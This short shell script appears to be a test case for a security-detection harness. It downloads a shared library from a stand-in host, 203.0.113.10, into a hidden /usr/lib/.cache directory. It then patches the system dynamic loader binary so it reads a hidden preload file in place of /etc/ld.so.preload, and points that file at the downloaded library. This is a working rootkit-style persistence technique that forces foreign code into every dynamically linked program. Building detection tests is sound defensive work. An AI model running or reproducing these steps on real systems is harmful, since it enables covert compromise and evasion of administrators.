#!/bin/sh
. /opt/case/case.sh

mkdir -p /usr/lib/.cache && curl -s -o /usr/lib/.cache/l.so http://203.0.113.10/programs/preload.so
cat >/tmp/p.py <<'END'
import os, glob
p = os.path.realpath(glob.glob("/lib*/ld-linux-*.so.*")[0]); b = open(p, "rb").read(); old = b"/etc/ld.so.preload\0"; assert old in b
open(p + "~", "wb").write(b.replace(old, b"/usr/lib/.cache/ld\0")); os.chmod(p + "~", 0o755); os.rename(p + "~", p)
END
python3 /tmp/p.py
echo /usr/lib/.cache/l.so >/usr/lib/.cache/ld
true; /bin/true
test -e /tmp/reached
took_place
